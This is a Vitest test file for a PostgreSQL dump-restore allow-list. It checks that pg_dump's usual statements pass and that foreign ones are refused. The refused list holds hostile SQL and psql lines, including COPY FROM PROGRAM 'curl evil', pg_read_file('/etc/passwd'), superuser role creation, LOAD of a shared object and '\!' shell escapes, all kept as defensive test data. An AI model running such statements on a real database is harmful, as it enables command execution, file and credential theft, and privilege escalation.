// The allow-list a restore checks a dump against (issue 18, item 5): every statement shape pg_dump writes
// for our schema passes; anything else, including its look-alikes, is refused.
import { expect, test } from 'vitest';
import {
  checkMetaCommand,
  checkStatement,
  ForeignStatementError,
} from '../../../scripts/backup/allowed-statements.js';
import { sqlStatements } from '../../../scripts/backup/sql-statements.js';

const OURS = [
  'SET statement_timeout = 0',
  'SET transaction_timeout = 0',
  "SET client_encoding = 'UTF8'",
  'SET standard_conforming_strings = on',
  "SELECT pg_catalog.set_config('search_path', '', false)",
  "SET default_tablespace = ''",
  'SET default_table_access_method = heap',
  `CREATE TABLE public.users (
    user_id bigint NOT NULL,
    username text NOT NULL,
    created_at timestamp with time zone DEFAULT now() NOT NULL,
    CONSTRAINT users_username_check CHECK (((char_length(username) >= 1) AND (char_length(username) <= 200)))
)`,
  'ALTER TABLE ONLY public.users ALTER COLUMN user_id SET (pg_attver=24352456)',
  `ALTER TABLE public.users ALTER COLUMN user_id ADD GENERATED ALWAYS AS IDENTITY (
    SEQUENCE NAME public.users_user_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1
)`,
  "INSERT INTO public.users OVERRIDING SYSTEM VALUE VALUES\n\t(1, 'Ann O''Brien', '2026-12-07 02:30:03.207+00', NULL, true, -5, 1.5e3, E'a\\\\b')",
  "INSERT INTO public.follows VALUES\n\t(1, 2, '2026-12-07'),\n\t(2, 1, '2026-12-07')",
  "SELECT pg_catalog.setval('public.users_user_id_seq', 2000, true)",
  'ALTER TABLE ONLY public.users\n    ADD CONSTRAINT users_pkey PRIMARY KEY (user_id)',
  'ALTER TABLE ONLY public.follows\n    ADD CONSTRAINT follows_who_id_fkey FOREIGN KEY (who_id) REFERENCES public.users(user_id) ON DELETE CASCADE',
  'CREATE INDEX messages_public_idx ON public.messages USING btree (pub_date DESC, message_id DESC) WHERE (NOT flagged)',
  'CREATE UNIQUE INDEX users_lower_idx ON public.users USING btree (lower(username))',
  // A serial column, as pg_dump writes one.
  'CREATE SEQUENCE public.t_id_seq\n    AS integer\n    START WITH 1\n    INCREMENT BY 1\n    NO MINVALUE\n    NO MAXVALUE\n    CACHE 1',
  'ALTER SEQUENCE public.t_id_seq OWNED BY public.t.id',
  "ALTER TABLE ONLY public.t ALTER COLUMN id SET DEFAULT nextval('public.t_id_seq'::regclass)",
];

const FOREIGN = [
  'SELECT 1',
  'BEGIN',
  'COMMIT',
  'ROLLBACK',
  'END',
  'SAVEPOINT s',
  "PREPARE TRANSACTION 'x'",
  "COPY (SELECT 1) TO PROGRAM 'id > /tmp/x'",
  "COPY public.users TO '/tmp/users'",
  "COPY public.users FROM PROGRAM 'curl evil'",
  'DO $$BEGIN PERFORM 1; END$$',
  'CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS $$SELECT 1$$',
  'CREATE OR REPLACE FUNCTION public.f() RETURNS trigger AS $b$ BEGIN RETURN NEW; END $b$ LANGUAGE plpgsql',
  'CREATE TRIGGER t BEFORE INSERT ON public.users FOR EACH ROW EXECUTE FUNCTION public.f()',
  'CREATE ROLE evil SUPERUSER LOGIN',
  'ALTER ROLE minitwit SUPERUSER',
  'CREATE EXTENSION dblink',
  'GRANT ALL ON SCHEMA public TO PUBLIC',
  'SET ROLE postgres',
  'RESET ROLE',
  'SET SESSION AUTHORIZATION postgres',
  'SET standard_conforming_strings = off',
  "SET client_encoding = 'SJIS'",
  'SET search_path = evil',
  "SELECT pg_catalog.set_config('search_path', 'evil', false)",
  "SELECT pg_catalog.setval('evil.s', 1, true)",
  "SELECT pg_catalog.setval('public.s', pg_read_file('/etc/passwd')::int, true)",
  'CREATE TABLE evil.t (id int)',
  'CREATE TABLE t (id int)',
  'CREATE TABLE public.t (id int) PARTITION BY RANGE (id)',
  'CREATE TABLE public.t (id) AS SELECT 1',
  'CREATE TABLE public.t (id int DEFAULT evil.f())',
  'CREATE VIEW public.v AS SELECT 1',
  'CREATE SCHEMA evil',
  'DROP TABLE public.users',
  'TRUNCATE public.users',
  'ALTER TABLE public.users OWNER TO evil',
  'ALTER TABLE public.users ENABLE TRIGGER ALL',
  'ALTER TABLE ONLY public.users ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES evil.t(a)',
  "INSERT INTO public.users VALUES (pg_read_file('/etc/passwd'))",
  'INSERT INTO public.users VALUES (1, DEFAULT)',
  'INSERT INTO public.users SELECT * FROM pg_authid',
  "INSERT INTO public.users VALUES (1) RETURNING pg_read_file('/etc/passwd')",
  'INSERT INTO public.users VALUES ($$x$$)',
  'INSERT INTO evil.users VALUES (1)',
  'UPDATE public.users SET username = 1',
  "LOAD '/tmp/evil.so'",
  'CALL public.p()',
  'VACUUM',
  'NOTIFY x',
  'LISTEN x',
];

test.each(OURS)(
  'when a dump holds %j (as pg_dump writes our schema and rows), then it is allowed',
  (statement) => {
    expect(() => checkStatement(statement)).not.toThrow();
  },
);

test.each(FOREIGN)('when a dump holds %j, then it is refused', (statement) => {
  expect(() => checkStatement(statement)).toThrow(ForeignStatementError);
});

test('when a dump holds a psql command but \\restrict and \\unrestrict, then it is refused', () => {
  expect(() => checkMetaCommand('\\restrict AbC123')).not.toThrow();
  expect(() => checkMetaCommand('\\unrestrict AbC123')).not.toThrow();
  for (const line of [
    '\\! id',
    '\\o | id',
    '\\i /etc/passwd',
    '\\set ON_ERROR_STOP off',
    '\\connect postgres',
  ])
    expect(() => checkMetaCommand(line)).toThrow(ForeignStatementError);
});

async function* chunks(script: string) {
  yield script;
}

async function split(script: string): Promise<{ statements: string[]; meta: string[] }> {
  const statements: string[] = [];
  const meta: string[] = [];
  for await (const statement of sqlStatements(chunks(script), (line) => meta.push(line)))
    statements.push(statement);
  return { statements, meta };
}

test('when comments nest or a name holds $ or non-ASCII letters, then statements split where PostgreSQL splits them', async () => {
  // PostgreSQL nests block comments: the COMMIT is inside one, not a statement.
  expect((await split('SELECT 1 /* a /* b */ COMMIT; */;\n')).statements).toEqual(['SELECT 1']);
  // `a$$x$` and `ä$x$` are names to PostgreSQL, not the start of a dollar quote: the COMMIT is a statement.
  for (const name of ['a$$x$', 'ä$x$'])
    expect((await split(`SELECT ${name}; COMMIT; SELECT b$x$;\n`)).statements).toEqual([
      `SELECT ${name}`,
      'COMMIT',
      'SELECT b$x$',
    ]);
  expect((await split('\\restrict k\nSELECT 1;\n\\! id\n')).meta).toEqual(['\\restrict k', '\\! id']);
});
